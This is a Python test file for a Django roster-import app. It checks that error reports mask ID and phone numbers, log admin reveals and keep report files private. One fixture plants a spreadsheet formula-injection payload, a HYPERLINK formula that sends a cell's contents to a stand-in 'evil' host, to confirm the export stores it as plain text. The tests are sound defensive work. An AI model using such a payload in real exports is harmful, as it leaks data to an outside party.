"""The error report and row errors: masked ID numbers, clear only for admins with a reveal logged,
no live formulas, IDs as text, streamed from a file, large ones built by a job (issue 9 items 2, 9,
14; issue 8 "Import preview and report")."""

import io
import os
import stat

import openpyxl
import pytest
from django.urls import reverse

from core.models import Job, RevealLog
from imports.models import ImportBatch, ImportRowError
from imports.sensitive import reveal

from .conftest import make_id, person, write_csv
from .test_web import upload

pytestmark = pytest.mark.django_db


def sheet_rows(response):
    data = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.fixture
def rejected(tmp_path, media, admin_user, login):
    """A batch with one rejected row holding an ID, a phone and a formula-like name."""
    client = login(admin_user)
    the_id = make_id()
    bad = person(姓名='=HYPERLINK("http://evil/?x="&A1,"click")', 公民身份号码=the_id, 联系电话="13912345678")
    bad["残疾等级"] = "九级"
    upload(client, write_csv(tmp_path / "r.csv", [bad, person()]))
    return client, ImportBatch.objects.get(), the_id


def test_row_errors_keep_id_and_phone_masked_and_sealed(rejected):
    client, batch, the_id = rejected
    issue = ImportRowError.objects.get(batch=batch, severity="error")
    stored = " ".join(issue.values)
    assert the_id not in stored and "13912345678" not in stored
    assert the_id[:6] + "********" + the_id[-4:] in issue.values
    assert "139****5678" in issue.values
    assert the_id in reveal(issue.values, issue.sealed)  # the seal opens with the field key
    api = client.get(f"/api/import-batches/{batch.pk}/errors/").content.decode()
    assert the_id not in api and "13912345678" not in api and the_id[-4:] in api


def test_masked_report_has_no_clear_id_no_formula_and_a_frozen_header(rejected):
    client, batch, the_id = rejected
    response = client.get(reverse("imports:batch-errors", args=[batch.pk]))
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    sheet = sheet_rows(response)
    rows = list(sheet.iter_rows(values_only=True))
    cells = [c for row in rows for c in row if c is not None]
    assert the_id not in map(str, cells)
    name_cell = sheet.cell(row=2, column=2)
    assert name_cell.data_type == "s" and name_cell.value.startswith("=HYPERLINK")  # text, not a formula
    assert sheet.freeze_panes == "A2"
    assert not RevealLog.objects.exists()


def test_clear_report_is_posted_by_an_admin_and_logged(rejected, admin_user):
    client, batch, the_id = rejected
    response = client.post(reverse("imports:batch-errors", args=[batch.pk]))
    sheet = sheet_rows(response)
    id_cell = sheet.cell(row=2, column=3)
    assert id_cell.value == the_id and id_cell.data_type == "s"  # an ID stays text, all 18 digits
    assert "13912345678" in [c.value for c in sheet[2]]
    logs = RevealLog.objects.order_by("field")
    assert [log.field for log in logs] == ["id_number", "phone"]
    assert all(
        log.user == admin_user and log.person is None and f"#{batch.pk}" in log.context for log in logs
    )


def test_a_large_report_is_built_by_a_job_and_then_sent_from_its_file(
    rejected, settings, django_capture_on_commit_callbacks
):
    client, batch, _the_id = rejected
    settings.IMPORT_REPORT_SYNC_MAX_ROWS = 0
    url = reverse("imports:batch-errors", args=[batch.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(url)
    assert response.status_code == 302
    job = Job.objects.get(kind="import_error_report")
    assert job.status == "succeeded" and job.result == {"rows": 1}
    [path] = (settings.MEDIA_ROOT / "imports" / "reports").glob("*.xlsx")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    response = client.get(url)
    assert response.status_code == 200 and sheet_rows(response).max_row == 2


def test_uploaded_roster_is_private(rejected):
    _client, batch, _the_id = rejected
    assert stat.S_IMODE(os.stat(batch.file.path).st_mode) == 0o600


def test_expired_rosters_and_reports_are_deleted_by_the_beat_job(rejected, settings):
    import datetime as dt

    from django.utils import timezone

    from imports.tasks import purge_expired_files

    _client, batch, _the_id = rejected
    assert "imports-purge-expired-files" in settings.CELERY_BEAT_SCHEDULE
    path = batch.file.path
    assert purge_expired_files() == {"rosters": 0, "reports": 0}
    ImportBatch.objects.filter(pk=batch.pk).update(created_at=timezone.now() - dt.timedelta(days=31))
    assert purge_expired_files()["rosters"] == 1
    batch.refresh_from_db()
    assert not os.path.exists(path) and not batch.file and batch.issues.exists()


def test_others_cannot_get_the_clear_report_and_nothing_is_logged(rejected, dongqu, login):
    _client, batch, _the_id = rejected
    other = login(dongqu)
    assert other.post(reverse("imports:batch-errors", args=[batch.pk])).status_code == 404
    assert other.get(reverse("imports:batch-errors", args=[batch.pk])).status_code == 404
    assert not RevealLog.objects.exists()
